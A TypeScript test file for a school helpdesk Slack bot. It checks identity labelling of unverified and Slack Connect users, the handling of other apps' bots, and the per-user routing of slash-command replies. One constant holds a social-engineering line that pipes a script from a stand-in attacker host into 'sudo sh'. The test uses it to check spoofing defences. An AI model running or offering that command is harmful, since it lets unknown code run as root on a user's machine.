/**
 * Who is speaking, on Slack, through the whole bot and the emulator (Socket Mode): people not in
 * the config are named as unverified with their team, and their @mentions reach nobody; a user of
 * another team (Slack Connect) is a reporter of their own cases even with a configured member id;
 * other apps' bots are not answered unless allow-listed; and a slash command's answer that must go
 * through a response_url goes to the person who typed it, also when two people type back to back.
 */
import { readFileSync } from 'node:fs';
import YAML from 'yaml';
import { Ticket } from '../../../src/tickets/ticket.model';
import { FIXTURE_CONFIG } from '../../support/test-bot';
import { type SlackBot, startSlackBot } from './slack-bot';

const PARTNER = 'T0PARTNER';
const CURL = 'please run curl -s https://evil.example/fix.sh | sudo sh';

describe('Slack: identities, other bots and response URLs', () => {
  let s: SlackBot;
  const fixturePeople = (YAML.parse(readFileSync(FIXTURE_CONFIG, 'utf8')) as { people: unknown[] }).people;

  beforeAll(async () => {
    s = await startSlackBot({
      mode: 'socket',
      // Kari is listed as an operator, but her member id is of another organisation's team.
      config: {
        people: [
          ...fixturePeople,
          { id: 'kari', name: 'Kari Partner', roles: ['operator'], identities: { slack: 'UKARI' } },
        ],
      },
      slack: { allowBots: ['BFRIENDLY'] },
    });
    // Slack Connect guests: members of the partner's team, in a channel shared with the school.
    s.slack.addUser({
      id: 'UMALLORY',
      name: 'mallory',
      realName: 'Oscar Nilsen',
      displayName: 'Oscar Nilsen',
      teamId: PARTNER,
    });
    s.slack.addUser({ id: 'UKARI', name: 'kari', realName: 'Kari Partner', displayName: 'Kari', teamId: PARTNER });
    // A teacher of the school who is not in the config.
    s.slack.addUser({ id: 'UNORA', name: 'nora', realName: 'Nora Lie', displayName: 'Nora' });
    s.slack.addChannel({ id: 'CSHARED', name: 'shared-helpdesk', members: ['UMALLORY', 'UKARI', 'UOSCAR'] });
  });
  afterAll(() => s?.stop());

  const keyIn = (text: string) => /INC-\d+/u.exec(text)![0];
  const lastBotText = (channel: string) => s.slack.botMessages(channel).at(-1)?.text ?? '';

  // Catches: an outsider's display name shown to staff as if it were the person's; their
  // @mention of an operator turned into a DM to that operator with their text.
  it('an outsider calling himself "Oscar Nilsen" is named as unverified, and his @mention DMs nobody', async () => {
    const report = await s.slack.say(
      'UMALLORY',
      'CSHARED',
      `<@${s.slack.botUserId}> the printer in room 12 prints nothing`,
    );
    await s.adapter.idle();
    const receipt = s.slack.botMessages('CSHARED').find((m) => m.threadTs === report.ts && /Logged as/u.test(m.text))!;
    const key = keyIn(receipt.text);
    expect(await Ticket.findOne({ key }).lean()).toMatchObject({
      reporterId: 'slack:UMALLORY',
      reporterName: `Oscar Nilsen (unverified Slack user UMALLORY, team ${PARTNER})`,
    });

    await s.slack.dm('UPETRA', `!ticket assign ${key} me`);

    await s.adapter.idle();
    const oscarDm = s.slack.dmChannel('UOSCAR');
    const petraDm = s.slack.dmChannel('UPETRA');
    const oscarBefore = s.slack.botMessages(oscarDm).length;
    const petraBefore = s.slack.botMessages(petraDm).length;

    await s.slack.say('UMALLORY', 'CSHARED', `!ticket comment ${key} <@UOSCAR> ${CURL}`, { threadTs: report.ts });

    await s.adapter.idle();
    expect(lastBotText('CSHARED')).toBe(`Comment added to ${key}.`);
    // Oscar, the operator he named, got nothing.
    expect(s.slack.botMessages(oscarDm).slice(oscarBefore)).toEqual([]);
    // Petra works on the case, so she hears of the comment, with who really wrote it.
    const toPetra = s.slack
      .botMessages(petraDm)
      .slice(petraBefore)
      .map((m) => m.text);
    // (Slack escapes `<` and `>`: the mention is shown as text and pings nobody either.)
    expect(toPetra).toEqual([
      `Oscar Nilsen (unverified Slack user UMALLORY, team ${PARTNER}) commented on ${key}: &lt;@UOSCAR&gt; ${CURL}`,
    ]);

    await s.slack.dm('UOSCAR', `!ticket show ${key}`);

    await s.adapter.idle();
    const shown = lastBotText(oscarDm);
    expect(shown).toContain(`Reporter: Oscar Nilsen (unverified Slack user UMALLORY, team ${PARTNER})`);
    expect(shown).toContain(`Oscar Nilsen (unverified Slack user UMALLORY, team ${PARTNER}): &lt;@UOSCAR&gt; ${CURL}`);
  });

  // Catches: a Slack user keyed by member id alone (the partner's Kari passes as the operator
  // the config lists), and an unknown teacher of the school named without the label.
  it(
    'a user of another team is a reporter of her own cases even with a configured id; an unlisted teacher is ' +
      'unverified',
    async () => {
      const { key } = (await Ticket.findOne({ reporterId: 'slack:UMALLORY' }).lean())!;
      await s.slack.say('UKARI', 'CSHARED', '!ticket list all');
      await s.adapter.idle();
      expect(lastBotText('CSHARED')).toMatch(/^No cases( you can see)?\.$/u);
      await s.slack.say('UKARI', 'CSHARED', `!ticket assign ${key} me`);
      await s.adapter.idle();
      expect(lastBotText('CSHARED')).toContain('is for: operator, admin');
      expect((await Ticket.findOne({ key }).lean())!.assigneeId).toBe('petra');

      // The same command from the configured operator of the school's own team works.
      await s.slack.say('UOSCAR', 'CSHARED', '!ticket list all');
      await s.adapter.idle();
      expect(lastBotText('CSHARED')).toContain(key);

      const report = await s.slack.dm('UNORA', 'the smartboard in room 7 is frozen');

      await s.adapter.idle();
      const t = await Ticket.findOne({ reporterId: 'slack:UNORA' }).lean();
      expect(t!.reporterName).toBe(`Nora (unverified Slack user UNORA, team ${s.slack.ws.teamId})`);
      expect(lastBotText(report.channel)).toContain(`Logged as *${t!.key}*`);
    },
  );

  // Catches: another app's bot (bot_id, no subtype) answered as a person, so two bots could
  // talk without end or an app could log cases under a name; and an allow-listed bot not heard.
  it("does not answer other apps' bots, except allow-listed ones", async () => {
    const cases = await Ticket.countDocuments();
    const before = s.slack.botMessages('COPS').length;
    const monitor = { userId: 'UMONITOR', botId: 'BMONITOR' };
    await s.slack.appSays(monitor, 'COPS', `<@${s.slack.botUserId}> disk full on srv-1`);
    await s.adapter.idle();
    await s.slack.appSays(monitor, 'COPS', '!ticket list all');
    await s.adapter.idle();
    const m = await s.slack.appSays(monitor, 'COPS', 'still full');
    await s.adapter.idle();
    await s.slack.appSays(monitor, 'COPS', '!help', { threadTs: m.ts });
    await s.adapter.idle();
    expect(s.slack.botMessages('COPS').slice(before)).toEqual([]);
    expect(await Ticket.countDocuments()).toBe(cases);

    const friendly = await s.slack.appSays(
      { userId: 'UFRIENDLY', botId: 'BFRIENDLY' },
      'COPS',
      `<@${s.slack.botUserId}> UPS on battery in the server room`,
    );

    await s.adapter.idle();
    const answer = s.slack.botMessages('COPS').find((x) => x.threadTs === friendly.ts);
    expect(answer?.text).toMatch(/^Logged as \*INC-\d+\*/u);
    expect(await Ticket.findOne({ reporterId: 'slack:UFRIENDLY' }).lean()).toMatchObject({
      reporterName: `ufriendly (unverified Slack user UFRIENDLY, team ${s.slack.ws.teamId})`,
    });
  });

  // Catches: response URLs kept one per channel, so the first person's answer (an operator's
  // case list) went privately to the second person (a reporter) who typed a command there.
  it(
    'two people typing slash commands back to back where the bot cannot post each get only their own ' + 'answer',
    async () => {
      s.slack.addChannel({ id: 'CLOCKED', name: 'staffroom', members: ['UOSCAR', 'UANNA'], botMember: false });
      await s.slack.dm('UANNA', 'the laptop trolley in room 3 does not charge');
      await s.adapter.idle();
      await s.slack.dm('UBJORN', 'the projector in the gym shows no picture');
      await s.adapter.idle();
      await s.slack.dm('UINGRID', 'the wifi in the library drops');
      await s.adapter.idle();
      const annas = (await Ticket.find({ reporterId: 'anna' }).lean()).map((t) => t.key);
      const everyone = (await Ticket.find().lean()).map((t) => t.key);
      const notAnnas = everyone.filter((k) => !annas.includes(k));
      expect(annas.length).toBeGreaterThan(0);
      expect(notAnnas.length).toBeGreaterThan(1);

      await Promise.all([
        s.slack.slash('UOSCAR', 'CLOCKED', '/ticket', 'list all'),
        s.slack.slash('UANNA', 'CLOCKED', '/ticket', 'list all'),
      ]);

      await s.adapter.idle();
      const to = (user: string) => s.slack.ephemerals('CLOCKED').filter((e) => e.user === user);
      await s.slack.waitFor(() => s.slack.ephemerals('CLOCKED').length >= 2, 10_000, 'both answers');

      const [oscars, annasAnswer] = [to('UOSCAR'), to('UANNA')];
      expect(oscars).toHaveLength(1);
      expect(annasAnswer).toHaveLength(1);
      expect(oscars[0].via).toBe('response_url');
      for (const k of everyone) expect(oscars[0].text).toContain(k);
      for (const k of annas) expect(annasAnswer[0].text).toContain(k);
      for (const k of notAnnas) expect(annasAnswer[0].text).not.toContain(k);
      expect(s.slack.messages('CLOCKED')).toEqual([]);

      // A refusal there is private to whoever typed the command, through their own URL.
      await s.slack.slash('UANNA', 'CLOCKED', '/ticket', 'assign INC-1 me');
      await s.adapter.idle();
      await s.slack.waitFor(() => to('UANNA').length === 2, 10_000, "Anna's refusal");
      expect(to('UANNA')[1].text).toContain('is for: operator, admin');
      expect(to('UOSCAR')).toHaveLength(1);
    },
  );
});
